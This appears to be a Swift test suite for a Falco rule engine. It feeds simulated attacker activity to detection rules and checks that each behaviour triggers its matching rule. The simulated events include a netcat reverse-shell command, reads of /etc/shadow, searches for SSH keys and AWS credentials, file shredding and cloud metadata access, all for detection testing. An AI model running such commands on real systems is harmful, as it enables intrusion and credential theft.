import Foundation
import Model
import Parsing
import TestKit
import Testing

@testable import FalcoRules

/// What attackers do, re-expressed as activity after the list of falcosecurity/event-generator: each must set off
/// exactly the rule that is meant for it, and its harmless twin none.
///
/// The official rules are not part of this repository: with BULKHEAD_FALCO_RULES=DIRECTORY (a checkout's `rules/`) the
/// same streams are held against them.
@Suite struct BehaviourTests {
  struct Behaviour: Sendable, CustomTestStringConvertible {
    var own: String
    /// Name in the official stable set; nil where that set has none.
    var official: String?
    var events: [ActivityEvent]
    var harmless: [ActivityEvent]
    var testDescription: String { own }
  }

  typealias Stream = ActivityStream
  static let host: ContainerFacts? = nil
  static let privileged: ContainerFacts = {
    var facts = Stream.container
    facts.isPrivileged = true
    return facts
  }()
  static let entry = Stream.process("/usr/bin/app", pid: 20)
  static let httpd = Stream.process("/usr/sbin/httpd", pid: 30)
  static let shim = Stream.process("/usr/bin/containerd-shim", container: nil, pid: 10)

  static let behaviours: [Behaviour] = {
    func exec(_ path: String, _ arguments: String..., parent: ProcessRecord? = entry, user: UInt32 = 0) -> ActivityEvent
    {
      Stream.exec(Stream.process(path, arguments, parent: parent, pid: 77, user: user))
    }
    let reader = Stream.process("/usr/bin/app", parent: entry, pid: 78)
    let old = Stream.process("/usr/sbin/httpd", parent: entry, pid: 79, start: 1)
    let grown = Stream.process("/usr/bin/app", parent: entry, pid: 78) {
      $0.descriptors = [Stream.socket(to: "5.6.7.8", port: 4444)]
    }
    let odd = Stream.process("/usr/bin/ssh", ["user@example.com", "-p", "443"], parent: entry, pid: 88)
    return [
      Behaviour(
        own: "Own traversal", official: "Directory traversal monitored file read",
        events: [Stream.open(reader, "/etc/../etc/../etc/shadow")], harmless: [Stream.open(reader, "/etc/hosts")]),
      Behaviour(
        own: "Own trusted reader", official: "Read sensitive file trusted after startup",
        events: [Stream.open(old, "/etc/shadow", at: 10_000_000_000)],
        harmless: [Stream.open(old, "/etc/hosts", at: 10_000_000_000)]),
      Behaviour(
        own: "Own secret read", official: "Read sensitive file untrusted", events: [Stream.open(reader, "/etc/shadow")],
        harmless: [Stream.open(Stream.process("/usr/sbin/sshd", pid: 4), "/etc/shadow")]),
      Behaviour(
        own: "Own shell below server", official: "Run shell untrusted",
        events: [exec("/bin/bash", "-c", "ls > /dev/null", parent: httpd)],
        harmless: [exec("/bin/bash", "-c", "ls > /dev/null")]),
      Behaviour(
        own: "Own daemon login", official: "System user interactive", events: [exec("/bin/login", user: 2)],
        harmless: [exec("/bin/ls", user: 2)]),
      Behaviour(
        own: "Own terminal", official: "Terminal shell in container",
        events: [Stream.exec(Stream.process("/bin/bash", parent: shim, pid: 5) { $0.hasTerminal = true })],
        harmless: [Stream.exec(Stream.process("/bin/bash", parent: shim, pid: 5))]),
      Behaviour(
        own: "Own netcat", official: "Netcat Remote Code Execution in Container",
        events: [exec("/bin/nc", "-e", "/bin/sh", "10.0.0.1", "22")], harmless: [exec("/bin/nc", "-z", "db", "5432")]),
      Behaviour(
        own: "Own key search", official: "Search Private Keys or Passwords",
        events: [exec("/usr/bin/find", "/tmp", "-maxdepth", "1", "-iname", "id_rsa")],
        harmless: [exec("/usr/bin/find", "/tmp", "-name", "x")]),
      Behaviour(
        own: "Own log cleared", official: "Clear Log Activities",
        events: [Stream.open(reader, "/tmp/x/syslog", flags: 0o1101)],
        harmless: [Stream.open(reader, "/var/log/app.log", flags: 0o2101)]),
      Behaviour(
        own: "Own data removed", official: "Remove Bulk Data from Disk",
        events: [exec("/usr/bin/shred", "-u", "/tmp/x")],
        harmless: [exec("/bin/rm", "/tmp/x")]),
      Behaviour(
        own: "Own symlink", official: "Create Symlink Over Sensitive Files",
        events: [Stream.call(reader, "symlinkat", [0, UInt64(bitPattern: -100)], text: "/etc", text2: "/tmp/l")],
        harmless: [Stream.call(reader, "symlinkat", [0, UInt64(bitPattern: -100)], text: "/opt/a", text2: "/tmp/l")]),
      Behaviour(
        own: "Own hardlink", official: "Create Hardlink Over Sensitive Files",
        events: [Stream.call(reader, "linkat", text: "/etc/shadow", text2: "/tmp/l")],
        harmless: [Stream.call(reader, "linkat", text: "/opt/a", text2: "/tmp/l")]),
      Behaviour(
        own: "Own packet socket", official: "Packet socket created in container",
        events: [Stream.call(reader, "socket", result: 5, [17, 3, 0x300])],
        harmless: [Stream.call(reader, "socket", result: 5, [2, 3, 1])]),
      Behaviour(
        own: "Own stream to network", official: "Redirect STDOUT/STDIN to Network Connection in Container",
        events: [Stream.exec(grown)], harmless: [Stream.exec(reader)]),
      Behaviour(
        own: "Own module load", official: "Linux Kernel Module Injection Detected",
        events: [Stream.call(reader, "finit_module", [3, 0, 0], capabilities: 1 << 16)],
        harmless: [Stream.call(reader, "finit_module", result: -1, [3, 0, 0])]),
      Behaviour(
        own: "Own debugfs", official: "Debugfs Launched in Privileged Container",
        events: [Stream.exec(Stream.process("/sbin/debugfs", ["-V"], parent: entry, container: privileged, pid: 6))],
        harmless: [exec("/sbin/debugfs", "-V")]),
      Behaviour(
        own: "Own release agent", official: "Detect release_agent File Container Escapes",
        events: [Stream.open(reader, "release_agent", flags: 0o1101, capabilities: 1 << 21)],
        harmless: [Stream.open(reader, "release_agent", flags: 0o1101)]),
      Behaviour(
        own: "Own injection", official: "PTRACE attached to process",
        events: [Stream.call(reader, "ptrace", [16, 90])],
        harmless: [Stream.call(reader, "ptrace", [7, 90])]),
      Behaviour(
        own: "Own anti debugging", official: "PTRACE anti-debug attempt", events: [Stream.call(reader, "ptrace", [0])],
        harmless: [Stream.call(reader, "ptrace", [17, 90])]),
      Behaviour(
        own: "Own cloud keys", official: "Find AWS Credentials",
        events: [exec("/usr/bin/find", "/tmp", "-maxdepth", "1", "-iname", ".aws/credentials")],
        harmless: [exec("/usr/bin/find", "/tmp", "-iname", "config")]),
      Behaviour(
        own: "Own shared memory", official: "Execution from /dev/shm",
        events: [exec("/bin/sh", "-c", "/dev/shm/payload.sh")], harmless: [exec("/bin/sh", "-c", "/opt/run.sh")]),
      Behaviour(
        own: "Own dropped", official: "Drop and execute new binary in container",
        events: [Stream.exec(Stream.process("/bin/new", parent: entry, pid: 8) { $0.isDropped = true })],
        harmless: [exec("/bin/new")]),
      Behaviour(
        own: "Own odd ssh", official: "Disallowed SSH Connection Non Standard Port",
        events: [
          Stream.connect(odd, to: "93.184.216.34", port: 443),
          Stream.connect(odd, to: "93.184.216.34", port: 443, established: true),
        ],
        harmless: [Stream.connect(odd, to: "93.184.216.34", port: 22), Stream.connect(odd, to: "10.1.1.1", port: 443)]),
      Behaviour(
        own: "Own fileless", official: "Fileless execution via memfd_create",
        events: [
          Stream.exec(Stream.process("/memfd:program", parent: entry, command: "3", pid: 9) { $0.isNameless = true })
        ], harmless: [exec("/opt/program")]),
      Behaviour(
        own: "Own hidden file", official: nil, events: [Stream.open(reader, "/tmp/.x", flags: 0o101)],
        harmless: [Stream.open(reader, "/tmp/x", flags: 0o101)]),
      Behaviour(
        own: "Own setuid", official: nil,
        events: [Stream.call(Stream.process("/bin/child", parent: entry, pid: 3, user: 2), "setuid", result: -1, [0])],
        harmless: [Stream.call(Stream.process("/bin/child", parent: entry, pid: 3, user: 2), "setuid", [2])]),
      Behaviour(
        own: "Own namespace", official: nil, events: [Stream.call(reader, "unshare", result: -1, [0x1000_0000])],
        harmless: [Stream.call(reader, "unshare", [0x400])]),
      Behaviour(
        own: "Own metadata", official: nil, events: [Stream.connect(reader, to: "169.254.169.254", port: 80)],
        harmless: [Stream.connect(reader, to: "93.184.216.34", port: 80)]),
      Behaviour(
        own: "Own mount", official: nil,
        events: [Stream.exec(Stream.process("/bin/mount", ["-o"], parent: entry, container: privileged, pid: 6))],
        harmless: [exec("/bin/mount", "-o")]),
    ]
  }()

  /// Knows the users of the streams.
  struct Users: FalcoSurroundings {
    var hostname: String { "node-1" }
    func userName(_ id: UInt32, in container: ContainerFacts?) -> String? {
      [0: "root", 2: "daemon", 33: "www-data"][id]
    }
    func groupName(_ id: UInt32, in container: ContainerFacts?) -> String? { nil }
    func names(of address: IPAddress) -> [String] { [] }
  }

  private func run(_ set: FalcoRuleSet, _ events: [ActivityEvent]) -> [FalcoAlert] {
    var engine = FalcoEngine(set, surroundings: Users())
    return events.flatMap { engine.take($0) }
  }

  private func own() throws -> FalcoRuleSet {
    FalcoRuleSet.load(
      files: [FalcoRuleFile(name: "shop-rules.yaml", bytes: Bytes(try Fixture.bytes("shop-rules.yaml")))],
      supply: .everything)
  }

  @Test func ownRulesLoadWhole() throws {
    let set = try own()
    #expect(set.errors.isEmpty && set.notes.isEmpty, "\(set.errors)")
    #expect(set.rules.count == Self.behaviours.count)
  }

  @Test(arguments: behaviours)
  func behaviourSetsOffItsRule(_ behaviour: Behaviour) throws {
    let set = try own()
    #expect(run(set, behaviour.events).map(\.rule) == [behaviour.own])
    #expect(run(set, behaviour.harmless).isEmpty)
  }

  @Test func aServerThatJustBeganMayReadItsSecrets() throws {
    let fresh = Stream.process("/usr/sbin/httpd", parent: Self.entry, pid: 79, start: 9_000_000_000)
    #expect(run(try own(), [Stream.open(fresh, "/etc/shadow", at: 10_000_000_000)]).isEmpty)
  }

  static let officialRules = ProcessInfo.processInfo.environment["BULKHEAD_FALCO_RULES"] ?? ""

  private func official(_ supply: EventSupply = .everything) throws -> FalcoRuleSet {
    let path = Self.officialRules + "/falco_rules.yaml"
    let bytes = [UInt8](try Data(contentsOf: URL(fileURLWithPath: path)))
    return FalcoRuleSet.load(files: [FalcoRuleFile(name: "falco_rules.yaml", bytes: Bytes(bytes))], supply: supply)
  }

  @Test(.enabled(if: !officialRules.isEmpty, "BULKHEAD_FALCO_RULES names no checkout of falcosecurity/rules"))
  func officialRulesLoadWhole() throws {
    let set = try official()
    #expect(set.errors.isEmpty && set.notes.isEmpty, "\(set.errors) \(set.notes)")
    #expect(set.rules.count == 25)
    for entry in try official(.full).coverage where entry.extent != .whole { print(entry.description) }
    for file in ["falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"] {
      let bytes = [UInt8](try Data(contentsOf: URL(fileURLWithPath: Self.officialRules + "/" + file)))
      let more = FalcoRuleSet.load(files: [FalcoRuleFile(name: file, bytes: Bytes(bytes))])
      #expect(more.errors.isEmpty, "\(more.errors)")
    }
  }

  @Test(
    .enabled(if: !officialRules.isEmpty, "BULKHEAD_FALCO_RULES names no checkout of falcosecurity/rules"),
    arguments: behaviours)
  func officialRulesGiveTheSameVerdict(_ behaviour: Behaviour) throws {
    let set = try official()
    #expect(run(set, behaviour.events).map(\.rule) == (behaviour.official.map { [$0] } ?? []))
    #expect(run(set, behaviour.harmless).isEmpty)
  }
}
